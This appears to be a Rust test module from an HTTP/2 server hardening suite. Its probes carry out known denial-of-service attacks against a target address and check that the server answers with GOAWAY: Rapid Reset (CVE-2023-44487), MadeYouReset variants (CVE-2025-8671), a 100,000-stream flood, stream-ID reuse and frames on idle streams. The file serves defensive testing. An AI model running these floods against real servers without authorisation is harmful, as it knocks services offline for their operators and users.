//! Attacks by streams: many, short, or made to fail.

use std::net::SocketAddr;

use h2::Reason;

use super::probe::{Outcome, Probe};
use super::wire::{Attacker, head, stream};
use crate::echo::ping;
use crate::frames::{DATA, END_STREAM, RST_STREAM, WINDOW_UPDATE, frame};
use crate::raw;

const MANY: u32 = 100_000;
const CALM: Outcome = Outcome::GoAway(Reason::ENHANCE_YOUR_CALM);
const WRONG: Outcome = Outcome::GoAway(Reason::PROTOCOL_ERROR);
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) fn probes() -> Vec<Probe> {
    vec![
        Probe::new("rapid reset", "begins and resets 100,000 calls (CVE-2023-44487)", CALM, |at| {
            Box::pin(rapid_reset(at))
        }),
        Probe::new(
            "rapid reset, paced",
            "begins 3,200 calls, 16 at a time, and resets them when the last of them is answered",
            Outcome::Endured,
            |at| Box::pin(paced_reset(at)),
        )
        .costs(20, 32),
        Probe::new(
            "MadeYouReset, increment of zero",
            "opens a window by nothing, which is a mistake (CVE-2025-8671)",
            WRONG,
            |at| Box::pin(made_you_reset(at, 0)),
        ),
        Probe::new(
            "MadeYouReset, window overflow",
            "makes the server reset 100,000 calls by windows beyond 2^31 (CVE-2025-8671)",
            CALM,
            |at| Box::pin(made_you_reset(at, 0x7fff_ffff)),
        ),
        Probe::new(
            "MadeYouReset, bad requests",
            "begins 100,000 calls without a path, each of which the server resets",
            CALM,
            |at| Box::pin(bad_requests(at)),
        ),
        Probe::new("stream flood", "begins 100,000 calls and ends none", CALM, |at| {
            Box::pin(stream_flood(at))
        }),
        Probe::new(
            "a stream that is used twice",
            "begins a call with a number that has had its call",
            WRONG,
            |at| Box::pin(used_twice(at)),
        ),
        Probe::new("frames of idle streams", "sends data of a call that has not begun", WRONG, |at| {
            Box::pin(idle(at))
        }),
    ]
}

async fn rapid_reset(at: SocketAddr) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    let begun_and_reset = |index| {
        let stream = stream(index);
        [head(stream, "Bidi"), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    };
    attacker.flood(MANY, begun_and_reset).await;
    attacker.outcome().await
}

async fn paced_reset(at: SocketAddr) -> Outcome {
    const AT_ONCE: u32 = 16;
    let mut attacker = Attacker::connect(at).await;
    for round in 0..3_200 / AT_ONCE {
        let streams = round * AT_ONCE..(round + 1) * AT_ONCE;
        let begin = |index| {
            let stream = stream(index);
            [head(stream, "Bidi"), frame(DATA, 0, stream, &raw::frame(&ping("begun")))].concat()
        };
        let begun: Vec<u8> = streams.clone().flat_map(begin).collect();
        if !attacker.send(&begun).await || !attacker.is_answered(stream(streams.end - 1)).await {
            break;
        }
        let reset = streams.flat_map(|index| frame(RST_STREAM, 0, stream(index), &CANCEL));
        attacker.send(&reset.collect::<Vec<u8>>()).await;
    }
    attacker.outcome().await
}

async fn made_you_reset(at: SocketAddr, increment: u32) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    let wrong = |index| {
        let stream = stream(index);
        [head(stream, "Bidi"), frame(WINDOW_UPDATE, 0, stream, &increment.to_be_bytes())].concat()
    };
    attacker.flood(MANY, wrong).await;
    attacker.outcome().await
}

async fn bad_requests(at: SocketAddr) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    // `:method: POST`, `:scheme: http`.
    let pathless =
        |index| frame(crate::frames::HEADERS, crate::frames::END_HEADERS, stream(index), &[0x83, 0x86]);
    attacker.flood(MANY, pathless).await;
    attacker.outcome().await
}

async fn stream_flood(at: SocketAddr) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    attacker.flood(MANY, |index| head(stream(index), "Bidi")).await;
    attacker.outcome().await
}

async fn used_twice(at: SocketAddr) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    attacker.call(5, "Bidi").await;
    attacker.send(&frame(DATA, END_STREAM, 5, &[])).await;
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    attacker.call(5, "Bidi").await;
    attacker.end().await
}

async fn idle(at: SocketAddr) -> Outcome {
    let mut attacker = Attacker::connect(at).await;
    attacker.send(&frame(DATA, 0, 77, b"data")).await;
    attacker.end().await
}
